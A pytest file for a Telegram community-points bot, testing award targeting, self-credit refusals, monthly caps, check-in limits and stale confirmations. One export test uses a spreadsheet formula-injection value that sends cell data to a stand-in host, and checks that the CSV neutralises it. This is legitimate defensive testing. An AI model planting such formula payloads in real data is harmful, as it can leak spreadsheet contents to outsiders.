"""Points nobody can mint, through the bot (issue 12): exact and unambiguous /award targets,
nobody crediting, marking or confirming themselves, chiefs who lost the role, the monthly
caps (activities and wishes) with what residents are told and the admin's override,
"unusual credits" in /stats, check-in codes (one error, a limit, the scope, seats), inert
CSV cells, and "start again" for a confirmation whose draft is gone."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import select, update

from linli.config import Settings
from linli.models import AuditLog, Resident
from linli.models.db import write_transaction
from linli.models.points import (
    Activity,
    ActivitySignup,
    ActivityState,
    LedgerEntry,
    LedgerKind,
    RewardItem,
    WithheldCredit,
)
from linli.services import ledger
from linli.services import wishes as wish_service
from tests.support import ADMIN_ID, GRID1_CHIEF, GRID2_CHIEF, Harness
from tests.support_casework import demote, new_wish
from tests.support_points import (
    assert_ledger_consistent,
    balance_of,
    create_activity,
    credit,
    join_activity,
    resident_by_telegram_id,
)

A, B, C = 5701, 5702, 5703  # 第一网格
OTHER_GRID = 5799  # 第二网格


@pytest.fixture
def settings(settings: Settings) -> Settings:
    """A small monthly cap, so a test reaches it with one activity; residents who earn 20
    points a month are "unusual"."""
    points = settings.points.model_copy(update={"monthly_cap": 20, "unusual_resident_points": 20})
    return settings.model_copy(update={"points": points})


async def _set(h: Harness, telegram_id: int, **values: object) -> None:
    async with h.db() as session:
        await session.execute(
            update(Resident).where(Resident.telegram_id == telegram_id).values(**values)
        )
        await session.commit()


async def _resident_id(h: Harness, telegram_id: int) -> int:
    resident = await h.resident(telegram_id)
    assert resident is not None
    return resident.id


# --- /award: exact targets ----------------------------------------------------------------------


async def test_award_username_exactly_and_ambiguity_refused(h: Harness) -> None:
    await h.add_resident(A, "第一网格", "1号楼", name="张三")
    await h.add_resident(B, "第一网格", "2号楼", name="张叁")
    await h.add_resident(C, "第一网格", "3号楼", name="张小三")
    await _set(h, A, username="ZhangSan")
    await _set(h, B, username="zhangsan")
    await _set(h, C, username="zhangxsan")
    refused = await h.ask(GRID1_CHIEF, "/award @zhangsan 5 帮忙搬东西")
    assert "不止一位居民" in refused.text
    assert f"{A} 张三" in refused.text and f"{B} 张叁" in refused.text
    for pattern in ("@zhang_san", "@%", "@zhang%"):
        reply = await h.ask(GRID1_CHIEF, f"/award {pattern} 5 通配符")
        assert "没有找到" in reply.text, pattern
    done = await h.ask(GRID1_CHIEF, f"/award {B} 5 帮忙搬东西")
    assert "张叁" in done.text and "+5" in done.text
    assert await balance_of(h, B) == (5, 5)
    assert await h.count(LedgerEntry) == 1


async def test_nobody_awards_themselves(h: Harness) -> None:
    building = await h.building("第一网格", "1号楼")
    await _set(h, GRID1_CHIEF, building_id=building.id)  # the grid chief lives in the grid
    refused = await h.ask(GRID1_CHIEF, f"/award {GRID1_CHIEF} 10 自己")
    assert "不能给自己奖励" in refused.text
    menu = await h.ask(GRID1_CHIEF, "/award")
    assert not menu.has_button("王秀英")  # not in the list either
    chief_id = await _resident_id(h, GRID1_CHIEF)
    pressed = await h.press_data(GRID1_CHIEF, menu, f"pwr:{chief_id}")
    assert "不能给自己奖励" in pressed.alert
    assert await h.count(LedgerEntry) == 0


# --- activities: nobody confirms themselves; managers by their current role --------------------


async def _attendance(h: Harness, chief: int, title: str = "清扫楼道") -> tuple[object, object]:
    listing = await h.ask(chief, "/activities")
    card = (await h.press(chief, listing, title)).messages[-1]
    people = (await h.press(chief, card, "签到名单")).messages[-1]
    return card, people


async def test_a_chief_never_marks_or_confirms_their_own_attendance(h: Harness) -> None:
    await h.add_resident(A, "第一网格", "1号楼", name="甲")
    activity_id = await create_activity(h, starts_in=timedelta(minutes=-10), points=9)
    assert "签到成功" in (await h.ask(GRID1_CHIEF, "246810")).text
    assert "签到成功" in (await h.ask(A, "246810")).text
    chief_id = await _resident_id(h, GRID1_CHIEF)
    card, people = await _attendance(h, GRID1_CHIEF)
    pressed = await h.press(GRID1_CHIEF, people, "王秀英")
    assert "不能给自己标记到场" in pressed.alert
    pressed = await h.press_data(GRID1_CHIEF, people, f"ak:{activity_id}:{chief_id}:0")
    assert "不能给自己标记到场" in pressed.alert
    ask = (await h.press(GRID1_CHIEF, card, "确认时长")).messages[-1]
    pressed = await h.press(GRID1_CHIEF, ask, "确认")
    assert "不能自己确认时长" in pressed.alert
    async with h.db() as session:
        activity = await session.get(Activity, activity_id)
        assert activity is not None and activity.state == ActivityState.OPEN
    assert await h.count(LedgerEntry) == 0
    # an admin confirms: both are credited
    listing = await h.ask(ADMIN_ID, "/activities")
    card = (await h.press(ADMIN_ID, listing, "清扫楼道")).messages[-1]
    ask = (await h.press(ADMIN_ID, card, "确认时长")).messages[-1]
    await h.press(ADMIN_ID, ask, "确认")
    assert await balance_of(h, GRID1_CHIEF) == (9, 9)
    assert await balance_of(h, A) == (9, 9)


async def test_a_chief_who_lost_the_role_cannot_manage_their_activity(h: Harness) -> None:
    """The chief lives in the grid: once demoted they are a resident of their building (a
    verified person with no building and no role is a partner member, services/authz.py)."""
    await h.add_resident(A, "第一网格", "1号楼", name="甲")
    building = await h.building("第一网格", "2号楼")
    await _set(h, GRID1_CHIEF, building_id=building.id)
    activity_id = await create_activity(h, starts_in=timedelta(minutes=-10), points=9)
    chief_id = await _resident_id(h, GRID1_CHIEF)
    async with h.db() as session:
        await session.execute(
            update(Activity).where(Activity.id == activity_id).values(created_by_id=chief_id)
        )
        await session.commit()
    assert "签到成功" in (await h.ask(A, "246810")).text
    card, people = await _attendance(h, GRID1_CHIEF)
    await demote(h, GRID1_CHIEF)
    a_id = await _resident_id(h, A)
    for data in (
        f"am:{activity_id}:code",
        f"am:{activity_id}:qr",
        f"am:{activity_id}:people",
        f"am:{activity_id}:confirm",
        f"am:{activity_id}:done",
        f"am:{activity_id}:stopok",
        f"ak:{activity_id}:{a_id}:0",
    ):
        pressed = await h.press_data(GRID1_CHIEF, people, data)
        assert "范围" in pressed.alert, data
    listing = await h.ask(GRID1_CHIEF, "/activities")
    card = (await h.press(GRID1_CHIEF, listing, "清扫楼道")).messages[-1]
    assert not card.has_button("签到名单") and not card.has_button("确认时长")
    async with h.db() as session:
        activity = await session.get(Activity, activity_id)
        assert activity is not None and activity.state == ActivityState.OPEN
        signup = await session.scalar(select(ActivitySignup))
        assert signup is not None and signup.attended_at is not None
    assert await h.count(LedgerEntry) == 0


# --- the monthly caps ---------------------------------------------------------------------------


async def test_monthly_cap_on_activities_told_and_lifted_by_an_admin(h: Harness) -> None:
    await h.add_resident(A, "第一网格", "1号楼", name="甲")
    await credit(h, A, 15, kind=LedgerKind.ACTIVITY)  # earned earlier this month (cap 20)
    await create_activity(h, starts_in=timedelta(minutes=-10), points=10)
    assert "签到成功" in (await h.ask(A, "246810")).text
    card, _ = await _attendance(h, GRID1_CHIEF)
    ask = (await h.press(GRID1_CHIEF, card, "确认时长")).messages[-1]
    before = len(h.emu.messages(A))
    await h.press(GRID1_CHIEF, ask, "确认")
    told = [m.text for m in h.emu.messages(A)[before:]]
    assert any("获得了 5 志愿积分" in text for text in told), told
    assert any("应得 10 分，实发 5 分" in text and "最多 20 分" in text for text in told), told
    assert await balance_of(h, A) == (20, 20)
    assert await h.run_job("points.tell_withheld") == 0  # told once
    # an admin lifts A's cap for this month from the /award flow
    menu = await h.ask(ADMIN_ID, "/award")
    found = await h.ask(ADMIN_ID, "甲")
    assert found.has_button("甲 · 1号楼") and not menu.buttons
    await h.press(ADMIN_ID, found, "甲 · 1号楼")
    assert "因上限没有发放给对方的积分：5 分" in found.text
    await h.press(ADMIN_ID, found, "解除本月上限（未发 5 分）")
    assert "马上补发" in found.text
    await h.press(ADMIN_ID, found, "确认")
    assert "补发了 5 分" in found.text and not found.buttons
    assert "之前没有发放的 5 分已经补发" in h.emu.last_message(A).text
    assert await balance_of(h, A) == (25, 25)
    assert await h.count(AuditLog, AuditLog.action == "points.cap_override") == 1
    await assert_ledger_consistent(h)


async def test_wish_credits_between_two_neighbours_are_capped(
    h: Harness, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The wishes flow credits through the ledger, whose caps come from the environment
    when the caller gives none: at most one credit a month between the same two here."""
    monkeypatch.setenv("POINTS_PAIR_MONTHLY_MAX", "1")
    await h.add_resident(A, "第一网格", "1号楼", name="张奶奶")
    await h.add_resident(B, "第一网格", "2号楼", name="小王")
    now = datetime.now(UTC)
    async with h.db() as session:
        author = await resident_by_telegram_id(session, A)
        wish_ids = [await new_wish(session, author, now) for _ in range(2)]
    for wish_id in wish_ids:
        async with h.db() as session:
            await wish_service.claim(
                session, await resident_by_telegram_id(session, B), wish_id, now
            )
    for wish_id in wish_ids:
        listing = await h.ask(A, "/my")
        await h.press_data(A, listing, f"wa:{wish_id}:fulfil")
        assert "不能撤销" in listing.text  # asked first
        pressed = await h.press(A, listing, "确认已实现")
        assert "已确认实现" in pressed.alert
    assert await balance_of(h, B) == (10, 10)
    assert await h.count(WithheldCredit) == 1
    assert await h.run_job("points.tell_withheld") == 1
    assert "每月最多给您记 1 次积分" in h.emu.last_message(B).text
    assert f"W{wish_ids[1]}" in h.emu.last_message(A).text
    assert "小王 这次没有获得积分" in h.emu.last_message(A).text
    assert await h.run_job("points.tell_withheld") == 0


async def test_unusual_credits_shown_in_stats(h: Harness) -> None:
    await h.add_resident(A, "第一网格", "1号楼", name="张奶奶")
    await h.add_resident(B, "第一网格", "2号楼", name="小王")
    author = await _resident_id(h, A)
    claimer = await _resident_id(h, B)
    async with h.db() as session, write_transaction(session):
        for wish_id in (1, 2):
            await ledger.post(
                session,
                resident_id=claimer,
                delta=10,
                kind=LedgerKind.WISH,
                idempotency_key=f"wish:{wish_id}",
                reference=f"W{wish_id}",
                actor_id=author,
            )
    replies = await h.send(GRID1_CHIEF, "/stats")
    text = replies[-1].text
    assert "异常积分" in text and "张奶奶 的微心愿给 小王 记了 2 次积分，共 20 分" in text
    assert "小王 这段时间获得 20 分" in text
    replies = await h.send(GRID2_CHIEF, "/stats")
    assert "异常积分" not in replies[-1].text


# --- check-in codes -----------------------------------------------------------------------------


async def test_check_in_codes_one_error_and_a_limit(h: Harness) -> None:
    await h.add_resident(A, "第一网格", "1号楼")
    await create_activity(h, code="135790", starts_in=timedelta(days=2))  # not open yet
    await create_activity(h, code="246810", starts_in=timedelta(minutes=-5))
    wrong = await h.ask(A, "/checkin 111111")
    early = await h.ask(A, "135790")
    assert wrong.text == early.text and "签到码不对，或者现在不在签到时间内" in wrong.text
    for code in ("222222", "333333", "444444"):
        assert (await h.ask(A, code)).text == wrong.text
    locked = await h.ask(A, "246810")  # five wrong this hour: even the right code waits
    assert "每小时最多 5 次" in locked.text and "60 分钟后再试" in locked.text
    assert await h.count(ActivitySignup) == 0


async def test_check_in_only_from_the_scope_and_into_a_seat(h: Harness) -> None:
    for user in (A, B, C):
        await h.add_resident(user, "第一网格", "1号楼", name=f"居民{user}")
    await h.add_resident(OTHER_GRID, "第二网格", "4号楼")
    activity_id = await create_activity(h, capacity=1, starts_in=timedelta(minutes=20))
    assert "报名成功" in await join_activity(h, A)
    assert "候补" in await join_activity(h, B)
    assert "只面向本网格" in (await h.ask(OTHER_GRID, "246810")).text
    assert "名额已满" in (await h.ask(B, "246810")).text  # waiting: no seat to check into
    assert "名额已满" in (await h.ask(C, "246810")).text  # walking in: neither
    assert "签到成功" in (await h.ask(A, "246810")).text
    async with h.db() as session, write_transaction(session):
        await session.execute(
            update(Activity)
            .where(Activity.id == activity_id)
            .values(starts_at=datetime.now(UTC) - timedelta(minutes=1))
        )
    card, _ = await _attendance(h, GRID1_CHIEF)
    ask = (await h.press(GRID1_CHIEF, card, "确认时长")).messages[-1]
    assert "到场 1 人" in ask.text
    await h.press(GRID1_CHIEF, ask, "确认")
    assert await balance_of(h, A) == (10, 10)
    assert await balance_of(h, B) == (0, 0)
    assert await h.count(LedgerEntry) == 1


# --- exports and stale confirmations --------------------------------------------------------------


async def test_export_cells_are_inert(h: Harness) -> None:
    await h.add_resident(A, "第一网格", "1号楼", name='=HYPERLINK("http://x/?"&A1,"hi")')
    await credit(h, A, 20)
    await h.ask(ADMIN_ID, f"/award correct {A} -5 @重复")
    reply = await h.ask(GRID1_CHIEF, "/export points")
    rows = list(csv.reader(io.StringIO(h.emu.file_bytes(reply.file_id).decode("utf-8-sig"))))
    assert rows[1][3] == '\'=HYPERLINK("http://x/?"&A1,"hi")'
    assert [row[6] for row in rows[1:]] == ["20", "-5"]  # numbers stay numbers
    assert rows[2][9] == "'@重复"


async def test_confirmations_whose_draft_is_gone_answer_start_again(h: Harness) -> None:
    await h.add_resident(A, "第一网格", "1号楼", name="甲")
    # a new shop item
    shop = await h.ask(GRID1_CHIEF, "/rewards")
    await h.press(GRID1_CHIEF, shop, "上架新商品")
    await h.ask(GRID1_CHIEF, "洗衣液")
    skip = await h.ask(GRID1_CHIEF, "一瓶")
    await h.press(GRID1_CHIEF, skip, "跳过")
    await h.ask(GRID1_CHIEF, "20")
    preview = await h.ask(GRID1_CHIEF, "3")
    await h.ask(GRID1_CHIEF, "/cancel")
    pressed = await h.press(GRID1_CHIEF, preview, "确认")
    assert "请重新开始" in pressed.alert
    # an award
    menu = await h.ask(GRID1_CHIEF, "/award")
    await h.press(GRID1_CHIEF, menu, "甲")
    await h.press(GRID1_CHIEF, menu, "+10")
    preview = await h.ask(GRID1_CHIEF, "帮忙")
    await h.ask(GRID1_CHIEF, "/cancel")
    pressed = await h.press(GRID1_CHIEF, preview, "确认")
    assert "请重新开始" in pressed.alert
    for data in ("pws:amount:10", "pwr:1", "pwp:1", "pws:lifted:0"):
        pressed = await h.press_data(GRID1_CHIEF, preview, data)
        assert "请重新开始" in pressed.alert, data
    assert await h.count(RewardItem) == 0
    assert await h.count(LedgerEntry) == 0
